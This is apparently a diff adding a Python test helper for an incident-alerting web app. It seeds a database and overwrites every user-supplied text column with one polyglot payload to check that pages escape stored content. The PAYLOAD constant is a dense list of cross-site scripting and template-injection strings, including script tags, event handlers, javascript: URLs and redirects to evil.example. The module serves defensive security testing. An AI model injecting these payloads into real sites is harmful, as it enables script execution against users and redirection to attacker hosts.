@@ -1,0 +1,205 @@
+"""A house full of attackers: every text that is stored, as far as it is anybody's to choose, tries to become markup.
+
+The texts are written into the database itself, so that no check at the door hides a template that would not hold.
+"""
+
+import json
+import re
+from typing import Any
+
+import msgspec
+from litestar.routes import HTTPRoute
+
+from openalert.app import OpenAlert
+from openalert.domain import action
+from openalert.domain.access import Actor, Role
+from openalert.storage.database import Reader, Transaction
+from openalert.usecases import (
+    api_keys,
+    channels,
+    contact_methods,
+    incidents,
+    presets,
+    schedules,
+    setup,
+    signin,
+    users,
+)
+from tests import make
+
+NODE = "data-xss"
+"""The attribute that every injected node would carry."""
+PAYLOAD = (
+    f'xss{{{{7*7}}}}xss ${{7*7}} #{{7*7}} <%= 7*7 %> " {NODE}=1 onfocus=alert(1) autofocus x=" '
+    f"' {NODE}=1 onload=alert(1) x=' "
+    f"--></title></textarea></script></style></option></select><img {NODE}=1 src=x onerror=alert(1)>"
+    f"<svg {NODE}=1 onload=alert(1)><a {NODE}=1 xlink:href=javascript:alert(1)><script {NODE}=1>alert(1)</script>"
+    f"<iframe {NODE}=1 srcdoc='<script>parent.alert(1)</script>'></iframe><form {NODE}=1 action=//evil.example>"
+    f"<div {NODE}=1 hx-get=//evil.example hx-trigger=load hx-on:click=alert(1)></div>"
+    f"<base {NODE}=1 href=//evil.example><meta {NODE}=1 http-equiv=refresh content='0;url=//evil.example'>"
+    f"<link {NODE}=1 rel=stylesheet href=//evil.example>"
+    f"<math><mtext></form><form><mglyph><svg><mtext><style><path {NODE}=1 id='</style><img {NODE}=1 src=x>'>"
+    f'\\";alert(1);// javascript:alert(1) \u202e\u2066\u200b\ufeff &lt;img {NODE}=1&gt; %3Cimg%20{NODE}=1%3E'
+)
+URL = f"javascript:alert(1)//{PAYLOAD}"
+
+OURS = re.compile(
+    r"id|.*_id|.*hash|.*_key|key|key_.*|status|phase|severity|kind|.*_kind|type|.*_type|role|method|purpose|channel|timezone|"
+    r"act|code|sealed|version|versions|scopes?|outcome|dialect|slug|verb|run|claimed_by|"
+    r"email|trace_id|issuer|subject|tenant|public_key|challenge|second_factor|secret|target|"
+    r"escalation_state|body_encoding|grouping|levels|teams|fingerprint"
+)
+"""Columns that hold words of ours, ids, hashes, or what is looked things up by; all others are an attacker's."""
+OUR_TABLES = re.compile(
+    r"schema_migrations|counters|settings|runs|audit_head|audit_log|sqlite_.*|kept_answers|throttles"
+)
+"""Tables without words of people; the audit log keeps what acts of hostile names wrote into it."""
+OUR_MEMBERS = re.compile(
+    r"id|.*Id|.*_id|status|severity|kind|type|role|verb|outcome|act|from|to|was|phase|channel|field"
+)
+"""Members of stored documents that hold words of ours."""
+
+
+class Seeded(msgspec.Struct):
+    """What is in the house: the owner's session, the key of an integration, and ids by the names that routes use."""
+
+    session: str
+    key: str
+    ids: dict[str, list[str]]
+
+
+async def settle(openalert: OpenAlert) -> Seeded:
+    """A team with everything a team can have, before it turns hostile."""
+    async with openalert.database.transaction() as tx:
+        await setup.ensure_organization(tx, "Acme")
+        ana = await users.create(tx, email="ana@example.org", name="Ana", role=Role.OWNER)
+        bea = await users.create(tx, email="bea@example.org", name="Bea")
+        made = await presets.apply(
+            tx, "one_team_weekly", team_name="Core", service_name="Shop", member_ids=[ana.id, bea.id], timezone="UTC"
+        )  # fmt: skip
+        session = await signin.open_session(tx, ana.id, address="", user_agent="")
+        await signin.open_session(tx, ana.id, address="192.0.2.1", user_agent="Mozilla")
+        await api_keys.create(tx, name="key")
+        for kind, config in (
+            ("webhook", {"url": "https://a.example/x"}),
+            ("email", {"address": "a@example.org"}),
+        ):
+            await channels.create(tx, team_id=made.team.id, name=kind, kind=kind, config=config)
+    async with openalert.database.transaction(make.actor(ana, made.team)) as tx:
+        await contact_methods.create(tx, ana.id, kind="email", address="ana2@example.org")
+        await schedules.add_override(
+            tx,
+            made.schedules[0].id,
+            user_id=bea.id,
+            start_at=tx.now,
+            end_at=tx.now + 3_600_000,
+            reason="dentist",
+        )
+    return Seeded(session=session, key=made.key, ids={})
+
+
+def alert(name: str) -> dict[str, Any]:
+    """An alert all of whose texts are hostile."""
+    return {
+        "status": "firing",
+        "labels": {"alertname": name, "severity": "critical", "instance": PAYLOAD, "xss": PAYLOAD},
+        "annotations": {"summary": PAYLOAD, "description": PAYLOAD, "runbook_url": URL, "dashboard": URL},
+        "startsAt": "2026-01-01T00:00:00Z",
+        "endsAt": "0001-01-01T00:00:00Z",
+        "generatorURL": URL,
+    }
+
+
+async def act(openalert: OpenAlert, actor: Actor) -> None:
+    """Every act on an incident, by somebody whose name is hostile, so that timelines and audit log have it."""
+    async with openalert.database.transaction(actor) as tx:
+        ids = [row[0] for row in await tx.rows("SELECT id FROM incidents ORDER BY number")]
+        for number, incident_id in enumerate(ids):
+            await incidents.acknowledge(tx, incident_id)
+            await incidents.note(tx, incident_id, body=PAYLOAD)
+            if number:
+                await incidents.resolve(tx, incident_id, resolution=PAYLOAD)
+
+
+async def poison(tx: Transaction) -> list[str]:
+    """Write the payload into every column that is not ours; their names."""
+    done = []
+    tables = [row[0] for row in await tx.rows("SELECT name FROM sqlite_master WHERE type = 'table'")]
+    for table in tables:
+        if OUR_TABLES.fullmatch(table):
+            continue
+        for column, kind in await tx.rows("SELECT name, type FROM pragma_table_info(:table)", table=table):
+            if kind == "TEXT" and not OURS.fullmatch(column):
+                await _poison_column(tx, table, column)
+                done.append(f"{table}.{column}")
+    return done
+
+
+async def _poison_column(tx: Transaction, table: str, column: str) -> None:
+    """Plain texts become the payload and a number, documents keep their shape."""
+    for number, value in await tx.rows(f"SELECT rowid, {column} FROM {table} WHERE {column} IS NOT NULL"):
+        changed = _poisoned(str(value), number, is_address="url" in column or column == "address")
+        await tx.execute(
+            f"UPDATE {table} SET {column} = :changed WHERE rowid = :number", changed=changed, number=number
+        )
+
+
+def _poisoned(value: str, number: int, *, is_address: bool) -> str:
+    if value.startswith(("[", "{")):
+        return json.dumps(_leaves(json.loads(value), ""))
+    return f"{URL if is_address else PAYLOAD} {number}"
+
+
+def _leaves(value: Any, name: str) -> Any:
+    """The document with every text of a stranger replaced."""
+    if isinstance(value, dict):
+        return {
+            key: member if OUR_MEMBERS.fullmatch(key) else _leaves(member, key)
+            for key, member in value.items()
+        }
+    if isinstance(value, list):
+        return [_leaves(member, name) for member in value]
+    if isinstance(value, str):
+        return URL if name in ("href", "url") else PAYLOAD
+    return value
+
+
+async def ids_for_routes(reader: Reader, openalert: OpenAlert) -> dict[str, list[str]]:
+    """What to put into the path parameters of pages, by their names."""
+    tables = {
+        "incident_id": "incidents", "alert_id": "alerts", "service_id": "services", "schedule_id": "schedules",
+        "rotation_id": "rotations", "policy_id": "escalation_policies", "team_id": "teams", "user_id": "users",
+    }  # fmt: skip
+    found = {}
+    for name, table in tables.items():
+        found[name] = [row[0] for row in await reader.rows(f"SELECT id FROM {table} ORDER BY id LIMIT 3")]
+        assert found[name], f"nothing in {table}"
+    secret: bytes = openalert.asgi.app.state.secret  # type: ignore[attr-defined]  # a Litestar
+    signed = action.sign(
+        secret, found["incident_id"][0], found["user_id"][0], action.Verb.RESOLVE, reader.now
+    )
+    return found | {"token": [signed, "unknown"]}
+
+
+def page_paths(openalert: OpenAlert, ids: dict[str, list[str]]) -> list[str]:
+    """Every address at which a page may be looked at; a route with a parameter nobody can fill is an error."""
+    machines = ("/api", "/health", "/ready", "/metrics", "/webhooks", "/static")
+    litestar = openalert.asgi.app
+    templates = [
+        route.path_format
+        for route in litestar.routes  # type: ignore[attr-defined]  # the middleware knows it as any ASGI application
+        if isinstance(route, HTTPRoute)
+        and "GET" in route.methods
+        and not route.path_format.startswith(machines)
+    ]
+    paths = [path for template in templates for path in _filled(template, ids)]
+    return sorted(paths)
+
+
+def _filled(template: str, ids: dict[str, list[str]]) -> list[str]:
+    names = re.findall(r"\{(\w+)\}", template)
+    paths = [template]
+    for name in names:
+        assert name in ids, f"say in ids_for_routes what {name} of {template} can be"
+        paths = [path.replace("{" + name + "}", value) for path in paths for value in ids[name]]
+    return paths
